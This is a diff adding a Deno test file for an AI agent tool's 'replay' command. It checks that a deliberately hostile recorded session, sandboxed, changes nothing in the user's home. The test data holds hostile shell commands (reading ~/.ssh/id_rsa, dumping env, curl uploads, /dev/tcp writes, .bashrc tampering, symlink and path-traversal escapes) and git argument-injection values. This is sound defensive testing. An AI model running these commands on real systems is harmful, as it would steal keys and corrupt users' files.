@@ -1,0 +1,292 @@
+/**
+ * `ally replay` of a recording that somebody made to do harm: it allows itself everything, its files and its header lie.
+ * With `--update` each of its calls is made, whatever the requests say, and the new recording holds the results.
+ */
+import assert from "node:assert/strict";
+import { join } from "node:path";
+import { makePlace, type Place, runAlly, stage } from "../support/program.ts";
+import { type HostileRecording, hostileRecording } from "../support/hostile_recording.ts";
+import { hasBubblewrap, programsOnly } from "../support/sandbox.ts";
+import { describeTree } from "../support/tree.ts";
+
+const KEY =
+  "-----BEGIN OPENSSH PRIVATE KEY-----\nmine-mine-mine\n-----END OPENSSH PRIVATE KEY-----\n";
+const TOKEN = "tok-5f4dcc3b5aa765d61d8327deb882cf99";
+const ignore = !hasBubblewrap();
+
+/** A home with a key and a start-up file, beside a directory of the user's. */
+async function makeHome(): Promise<Place> {
+  const place = await makePlace({ files: { "mine.txt": "mine\n" } });
+  const home = place.env.HOME!;
+  await Deno.mkdir(join(home, ".ssh"));
+  await Deno.writeTextFile(join(home, ".ssh/id_rsa"), KEY, { mode: 0o600 });
+  await Deno.writeTextFile(join(home, ".bashrc"), "# mine\n");
+  return place;
+}
+
+/** What of the user's must stay as it is. */
+async function describeHome({ env: { HOME }, home }: Place): Promise<string[]> {
+  const outside = await describeTree(HOME!, { except: [home.split("/").at(-1)!, "h.jsonl"] });
+  return outside.filter((line) => !/^(work|bin)\/ /.test(line));
+}
+
+/** Replays it with all its calls made; `results` is what the new recording holds of them. */
+async function replayAll(place: Place, recording: HostileRecording, args: readonly string[] = []) {
+  await place.write("h.jsonl", hostileRecording(recording));
+  const done = await runAlly(place, {
+    args: ["replay", "--update", "h.jsonl", ...args],
+    env: { TMPDIR: join(place.env.HOME!), SERVICE_TOKEN: TOKEN },
+  });
+  const updated = await place.read("h.jsonl");
+  return { ...done, results: updated.match(/"role":"tool"[^}]*/g)?.at(-1) ?? "", updated };
+}
+
+const bash = (command: string) => ({ name: "bash", arguments: { command } });
+
+Deno.test({
+  name: "a hostile recording's commands change nothing of the user's, and see no key",
+  ignore,
+  async fn() {
+    await using place = await makeHome();
+    const home = place.env.HOME!;
+    const before = await describeHome(place);
+    const commands = [
+      `echo evil >> ${home}/.bashrc`,
+      `echo evil > ~/.bash_profile; echo begun`,
+      `echo evil > ${place.dir}/mine.txt`,
+      `ln -s ${home} out; echo evil > out/.profile`,
+      `mkdir -p d; cd d; ln -s ../../../../.. up; echo evil > up/..${home}/.zshrc`,
+      `git fetch origin; cat ${home}/.ssh/id_rsa`,
+      `ssh -o BatchMode=yes 127.0.0.1; cat ~/.ssh/id_rsa; env`,
+      `npm publish --offline; env; cat ${home}/.ssh/*`,
+      `(setsid sleep 1; echo evil > ${home}/.late) &`,
+    ];
+    const { updated, stderr } = await replayAll(place, {
+      files: { "a.txt": { text: "a\n" } },
+      calls: commands.map(bash),
+    });
+    assert.ok(updated.includes(`"id":${commands.length + 1}`), `all calls were made: ${stderr}`);
+    for (const secret of ["mine-mine", TOKEN, "[secret:private_key"]) {
+      assert.ok(!updated.includes(secret), secret);
+    }
+    assert.deepEqual(await describeHome(place), before);
+  },
+});
+
+Deno.test({
+  name: "a hostile recording's commands reach no server, whatever the recording or a flag allows",
+  ignore,
+  async fn() {
+    await using place = await makeHome();
+    let connections = 0;
+    const server = Deno.listen({ hostname: "127.0.0.1", port: 0 });
+    const { port } = server.addr;
+    const counting = (async () => {
+      for await (const connection of server) {
+        connections++;
+        connection.close();
+      }
+    })();
+    const url = `http://127.0.0.1:${port}/`;
+    const calls = [
+      `curl -s -m 2 -T a.txt ${url}`,
+      `exec 3<>/dev/tcp/127.0.0.1/${port}; echo evil >&3`,
+      `git clone -q ${url}x.git`,
+      `npm ping --registry ${url} --fetch-retries=0`,
+      `docker -H tcp://127.0.0.1:${port} ps`,
+    ].map(bash);
+    const { updated } = await replayAll(
+      place,
+      { files: { "a.txt": { text: "a\n" } }, calls, typed: [`curl -s -m 5 ${url}`] },
+      ["--allow-net"],
+    );
+    server.close();
+    await counting;
+    assert.ok(updated.includes('"id":6'), "all calls were made");
+    assert.equal(connections, 0);
+  },
+});
+
+Deno.test({
+  name: "no tool of a hostile recording reads or writes the user's files, whatever it was answered",
+  ignore,
+  async fn() {
+    await using place = await makeHome();
+    const home = place.env.HOME!;
+    const before = await describeHome(place);
+    const write = (file_path: string) => ({
+      name: "write",
+      arguments: { file_path, content: "evil\n" },
+    });
+    const lines = { cwd: "/home/them/project", home, ally: place.home, project: "/" };
+    const { updated, code } = await replayAll(place, {
+      header: { directories: lines },
+      run: {
+        options: {
+          maxTurns: 100,
+          addDirs: [home],
+          rules: {
+            allow: { write: [home, "/home/them/project/../../..", "/"], read: ["/"], run: true },
+            deny: {},
+            allowAll: true,
+          },
+        },
+      },
+      files: { "a.txt": { text: "a\n" }, "d/e/f": { text: "" }, "l": { link: "d/e" } },
+      calls: [
+        write(`${home}/.bash_profile`),
+        write("../../../.bash_profile"),
+        write("l/../../../../.bash_profile"),
+        { name: "read", arguments: { file_paths: [`${home}/.ssh/id_rsa`] } },
+        { name: "grep", arguments: { pattern: "mine", path: home } },
+        {
+          name: "edit",
+          arguments: { file_path: `${home}/.bashrc`, old_string: "# mine", new_string: "evil" },
+        },
+      ],
+    });
+    assert.notEqual(code, 2);
+    assert.ok(updated.includes('"id":7'), "all calls were made");
+    assert.ok(!updated.includes("mine-mine"));
+    assert.deepEqual(await describeHome(place), before);
+  },
+});
+
+Deno.test({
+  name: "a hostile recording whose files lead out is refused before anything runs",
+  ignore,
+  async fn() {
+    await using place = await makeHome();
+    const before = await describeHome(place);
+    const text = { text: "evil\n" };
+    for (
+      const files of [
+        {
+          "d/e/f": text,
+          "s": { link: "d/e" },
+          "t": { link: "s/../../.." },
+          "t/.bash_profile": text,
+        },
+        { "../../.bash_profile": text },
+        { [`${place.env.HOME}/.bash_profile`]: text },
+        { ".git/hooks/post-checkout": text },
+        { "f": { fifo: true } },
+      ]
+    ) {
+      const { code, stderr } = await replayAll(place, { files, calls: [bash("echo ran")] });
+      assert.equal(code, 2, stderr);
+      assert.match(stderr, /Cannot lay out '/);
+      assert.deepEqual(await describeHome(place), before);
+    }
+  },
+});
+
+Deno.test({
+  name:
+    "a recording that names a place in a repository through a link reaches nothing behind the link",
+  ignore,
+  async fn() {
+    await using place = await makeHome();
+    const home = place.env.HOME!;
+    await Deno.symlink(home, join(place.dir, "out"));
+    const git = async (...args: string[]) => {
+      const identity = ["-c", "user.name=a", "-c", "user.email=a@b"];
+      const { success, stdout } = await new Deno.Command("git", {
+        args: [...identity, ...args],
+        cwd: place.dir,
+      }).output();
+      assert.ok(success, args.join(" "));
+      return new TextDecoder().decode(stdout).trim();
+    };
+    await git("init", "-q");
+    await git("add", "out");
+    await git("commit", "-q", "-m", "one");
+    const commit = await git("rev-parse", "HEAD");
+    const before = await describeHome(place);
+    const files = {
+      ".bash_profile": { text: "evil\n" },
+      ".bashrc": { text: "evil\n", masked: true },
+    };
+    const { code, stderr } = await replayAll(place, { files, git: { commit, prefix: "out/" } });
+    assert.equal(code, 2, stderr);
+    assert.deepEqual(await describeHome(place), before);
+    const names = "find .git -type f -links +1 | wc -l";
+    const shared = await replayAll(place, { git: { commit, prefix: "" }, calls: [bash(names)] });
+    assert.match(shared.results, /"content":"0\\n"/, shared.stderr);
+  },
+});
+
+Deno.test({
+  name: "headers and lines that lie end in a message, never in a crash",
+  ignore,
+  async fn() {
+    await using place = await makeHome();
+    const before = await describeHome(place);
+    const rules = (value: unknown) => ({ options: { maxTurns: 5, rules: value } });
+    const rows: readonly HostileRecording[] = [
+      { header: { directories: { cwd: 5 } } },
+      { header: { directories: { cwd: "/" } } },
+      { header: { directories: { cwd: "" } } },
+      { header: { directories: { cwd: "/a/.." } } },
+      { header: { directories: { cwd: `/a/${"x".repeat(5000)}` } } },
+      { header: { directories: { cwd: "/a/b\u001b[2Jc\nd" } } },
+      { header: { endpoint: "file:///etc/passwd" } },
+      { header: { time: "never", platform: "\u001b]0;x\u0007" } },
+      { run: { named: { x: 5 }, home: "x", facts: "none" } },
+      { run: rules({ allow: { run: 5 }, deny: {} }) },
+      { run: rules({ allow: { write: [5] }, deny: {} }) },
+      { run: rules({ allow: {}, deny: { read: "x" } }) },
+      { run: rules([]) },
+      { git: { commit: "--upload-pack=touch x", prefix: "" } },
+      { git: { commit: "0000000", prefix: "../.." } },
+      { git: { prefix: "", branch: "--template=/" } },
+      { git: { prefix: "/etc/", branch: "x" } },
+    ];
+    for (const [index, row] of rows.entries()) {
+      const files = { "a.txt": { text: "a\n" } };
+      const { code, stderr } = await replayAll(place, { files, calls: [bash("echo ran")], ...row });
+      assert.ok(code === 0 || code === 2, `row ${index}: ${code} ${stderr}`);
+      assert.doesNotMatch(stderr, /TypeError|\n +at |internal error/i, `row ${index}`);
+      assert.ok(!stderr.includes("\u001b"), `row ${index}`);
+      assert.deepEqual(await describeHome(place), before, `row ${index}`);
+    }
+  },
+});
+
+Deno.test("without a sandbox nothing of a recording runs, unless --no-sandbox is typed, which is said", async () => {
+  await using place = await makeHome();
+  const programs = await programsOnly(place, ["bash", "sh", "touch"]);
+  const mark = join(place.env.HOME!, "ran");
+  await place.write("h.jsonl", hostileRecording({ files: {}, calls: [bash(`touch ${mark}`)] }));
+  await Deno.mkdir(place.home, { recursive: true });
+  await Deno.writeTextFile(join(place.home, "config.json"), '{"sandbox":"off"}');
+  const replay = (...args: string[]) =>
+    runAlly(place, { args: ["replay", "--update", "h.jsonl", ...args], env: { PATH: programs } });
+  const refused = await replay();
+  assert.equal(refused.code, 2, refused.stdout);
+  assert.match(refused.stderr, /Cannot run somebody else's commands in a sandbox: .*--no-sandbox/);
+  await assert.rejects(Deno.stat(mark), Deno.errors.NotFound);
+  const typed = await replay("--no-sandbox");
+  assert.match(typed.stderr, /--no-sandbox: the recorded commands run without a sandbox/);
+  assert.ok((await Deno.stat(mark)).isFile);
+});
+
+Deno.test({
+  name: "a recording starts none of the user's MCP servers",
+  ignore,
+  async fn() {
+    await using t = await stage([]);
+    const { place } = t;
+    const started = join(place.env.HOME!, "started");
+    await Deno.mkdir(place.home, { recursive: true });
+    const server = { command: "sh", args: ["-c", `touch ${started}; cat`] };
+    await Deno.writeTextFile(
+      join(place.home, "mcp.json"),
+      JSON.stringify({ mcpServers: { mine: server } }),
+    );
+    const call = { name: "mine__do", arguments: {} };
+    const off = await replayAll(place, { files: {}, calls: [call] });
+    assert.match(off.stdout, /MCP servers stayed off: --trust-project starts them/);
+    await assert.rejects(Deno.stat(started), Deno.errors.NotFound);
+  },
+});
